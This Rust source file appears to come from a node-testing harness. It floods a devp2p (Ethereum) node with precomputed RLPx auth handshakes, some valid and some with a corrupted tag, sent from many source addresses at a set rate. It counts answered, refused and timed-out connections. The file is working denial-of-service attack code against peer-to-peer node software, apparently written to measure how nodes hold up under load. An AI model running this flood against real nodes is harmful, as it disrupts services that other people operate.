//! Handshakes whose auths were made beforehand, so that the attacker's own work on the curve takes nothing from the node's.
//! A good one ends when ack has come, one with a changed auth when the node closes.

use std::{
    net::{Ipv4Addr, SocketAddr},
    time::Duration,
};

use devp2p::identity::{Enode, Host};
use interop::{
    Failure, Result,
    flood::{attacker, prepare_auth, socket},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
    time::timeout,
};

use super::{Attack, pace::Pace, ready};

/// Auths that are changed, over and over: what a node refuses it does not remember.
const BAD_AUTHS: usize = 1_000;
/// Connections under way; when there are as many, the node is slower than the attack and further ones are counted as late.
const MAX_UNDER_WAY: usize = 4_096;
/// How long a connection is waited for.
const PATIENCE: Duration = Duration::from_secs(5);

/// What came of them.
#[derive(Default)]
struct Counts {
    /// Good ones that were answered.
    answered: u64,
    /// Good ones that were closed before.
    refused: u64,
    /// Others that were closed.
    closed: u64,
    /// Either, without an end in time, or without a socket.
    failed: u64,
    late: u64,
}

/// How one ended.
enum Ending {
    Answered,
    Closed,
}

pub(super) async fn run(attack: &Attack, valid: u32, bad: u32) -> Result<()> {
    let good: Result<Vec<_>> = (0..valid * attack.seconds).map(|_| prepare_auth(&attack.target)).collect();
    let mut good = good?.into_iter();
    let changed: Result<Vec<_>> = (0..BAD_AUTHS.min(bad as usize)).map(|_| change(&attack.target)).collect();
    let changed = changed?;
    let target = address(&attack.target)?;
    ready()?;
    let mut pace = Pace::new(valid + bad, attack.seconds);
    let (mut counts, mut under_way, mut number, mut sent) =
        (Counts::default(), JoinSet::new(), 0u32, (0u32, 0u32));
    while let Some(due) = pace.next().await {
        for _ in 0..due {
            number += 1;
            // Good ones and others in the proportion that was asked for.
            let is_good = u64::from(number) * u64::from(valid) / u64::from(valid + bad) > u64::from(sent.0);
            if is_good {
                sent.0 += 1;
            } else {
                sent.1 += 1;
            }
            if under_way.len() >= MAX_UNDER_WAY {
                counts.late += 1;
                continue;
            }
            let auth = if is_good {
                good.next()
            } else {
                changed.get(number as usize % BAD_AUTHS.min(changed.len())).cloned()
            };
            let Some(auth) = auth else { continue };
            under_way.spawn(async move {
                (is_good, timeout(PATIENCE, shake(attacker(number), target, auth)).await)
            });
        }
        while let Some(ended) = under_way.try_join_next() {
            counts.count(ended.ok());
        }
    }
    while let Some(ended) = under_way.join_next().await {
        counts.count(ended.ok());
    }
    let Counts { answered, refused, closed, failed, late } = counts;
    println!(
        "{} valid: {answered} answered, {refused} refused; {} bad: {closed} closed; {failed} failed, {late} late",
        sent.0, sent.1
    );
    Ok(())
}

impl Counts {
    fn count<E>(&mut self, ended: Option<(bool, Result<Result<Ending>, E>)>) {
        match ended {
            Some((true, Ok(Ok(Ending::Answered)))) => self.answered += 1,
            Some((true, Ok(Ok(Ending::Closed)))) => self.refused += 1,
            Some((false, Ok(Ok(Ending::Closed)))) => self.closed += 1,
            _ => self.failed += 1,
        }
    }
}

/// An auth whose tag is that of other bytes.
pub(super) fn change(target: &Enode) -> Result<Vec<u8>> {
    let mut auth = prepare_auth(target)?;
    if let Some(last) = auth.last_mut() {
        *last ^= 1;
    }
    Ok(auth)
}

async fn shake(from: Ipv4Addr, target: SocketAddr, auth: Vec<u8>) -> Result<Ending> {
    let mut stream = socket(from)?.connect(target).await?;
    stream.write_all(&auth).await?;
    // A node that closes with bytes unread resets the connection.
    let Ok(len) = stream.read_u16().await else { return Ok(Ending::Closed) };
    let mut ack = vec![0; usize::from(len)];
    stream.read_exact(&mut ack).await?;
    Ok(Ending::Answered)
}

pub(super) fn address(node: &Enode) -> Result<SocketAddr> {
    match node.host {
        Host::Ip(ip) => Ok(SocketAddr::new(ip, node.tcp)),
        Host::Dns(_) => Err(Failure::new("the node has no address")),
    }
}
